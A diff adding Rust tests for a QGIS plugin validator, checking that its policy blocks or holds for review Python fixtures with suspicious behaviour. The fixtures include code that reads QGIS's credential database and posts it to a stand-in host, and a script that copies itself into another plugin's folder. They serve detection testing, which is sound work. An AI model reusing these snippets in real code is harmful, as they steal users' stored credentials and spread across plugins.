@@ -1,0 +1,90 @@
+//! Graded actions through the policy: a complete chain blocks, the same capabilities without a
+//! traced flow are held for review, and a script QGIS does not load is held for review at most.
+
+use validator_archive::{ArchiveLimits, PluginArchive};
+use validator_behaviour::BehaviourCheck;
+use validator_domain::{Check, CheckContext, Finding, PackageInfo, ScanCache};
+use validator_policy::{Policy, RuleSet};
+use validator_testkit::ZipBuilder;
+
+/// The check's findings on a plugin `demo` made of `files`, rated by the shipped policy.
+fn rated(files: &[(&str, &str)]) -> Vec<Finding> {
+    let mut zip = ZipBuilder::new().dir("demo/");
+    for (path, text) in files {
+        zip = zip.bytes(&format!("demo/{path}"), text.as_bytes(), 0o644);
+    }
+    let archive =
+        PluginArchive::open(zip.build(), &ArchiveLimits::default()).expect("archive opens");
+    let package = PackageInfo::inspect(&archive);
+    let ctx = CheckContext {
+        archive: &archive,
+        package: &package,
+        rule_enabled: &|_| true,
+        reference_defaults: false,
+        cache: &ScanCache::new(),
+    };
+    let findings = BehaviourCheck.run(&ctx).expect("check runs");
+    Policy::default().evaluate(&BehaviourCheck, findings, RuleSet::Policy, &[])
+}
+
+fn finding<'f>(findings: &'f [Finding], rule: &str) -> &'f Finding {
+    findings
+        .iter()
+        .find(|f| f.rule == rule)
+        .unwrap_or_else(|| panic!("no {rule} in {findings:#?}"))
+}
+
+/// Loads a module by a computed name: every file counts as loaded (BHV901).
+const DYNAMIC_INIT: &str = "import importlib\n\
+def classFactory(iface):\n    name = iface.objectName()\n    \
+return importlib.import_module('.' + name, __package__)\n";
+
+/// Copies itself into another plugin's folder (BHV006), as a developer script.
+const SCRIPT: &str = "import os\nimport shutil\nfrom qgis.utils import home_plugin_path\n\n\
+def install():\n    shutil.copy(__file__, os.path.join(home_plugin_path, 'other', '__init__.py'))\n\n\
+if __name__ == '__main__':\n    install()\n";
+
+#[test]
+fn a_script_nothing_imports_is_held_for_review_not_blocked_even_with_dynamic_loading() {
+    let findings = rated(&[("__init__.py", DYNAMIC_INIT), ("devtools/entry.py", SCRIPT)]);
+    finding(&findings, "BHV901");
+    let write = finding(&findings, "BHV006");
+    assert!(write.review && !write.blocking, "{write:#?}");
+    assert!(write.review_at_most.is_some(), "{write:#?}");
+}
+
+#[test]
+fn the_same_code_imported_by_the_plugin_blocks() {
+    let init = format!("{DYNAMIC_INIT}from .devtools import entry\n");
+    let findings = rated(&[
+        ("__init__.py", init.as_str()),
+        ("devtools/__init__.py", ""),
+        ("devtools/entry.py", SCRIPT),
+    ]);
+    let write = finding(&findings, "BHV006");
+    assert!(write.blocking && !write.review, "{write:#?}");
+    assert!(write.review_at_most.is_none(), "{write:#?}");
+}
+
+#[test]
+fn a_credential_flow_blocks_and_credentials_beside_network_calls_are_held() {
+    let flow = rated(&[(
+        "__init__.py",
+        "import requests\nfrom qgis.core import QgsApplication\n\n\
+def run():\n    blob = open(QgsApplication.qgisAuthDatabaseFilePath(), 'rb').read()\n    \
+requests.post('https://x.example.invalid', data=blob)\n",
+    )]);
+    let sent = finding(&flow, "BHV001");
+    assert!(sent.blocking, "{sent:#?}");
+    assert!(sent.message.contains("flows to"), "{}", sent.message);
+
+    let beside = rated(&[(
+        "__init__.py",
+        "import os\nimport requests\nfrom qgis.core import QgsApplication\n\n\
+def exists():\n    return os.path.exists(QgsApplication.qgisAuthDatabaseFilePath())\n\n\
+def ping():\n    requests.get('https://x.example.invalid')\n",
+    )]);
+    assert!(beside.iter().all(|f| f.rule != "BHV001"), "{beside:#?}");
+    let held = finding(&beside, "BHV107");
+    assert!(held.review && !held.blocking, "{held:#?}");
+}
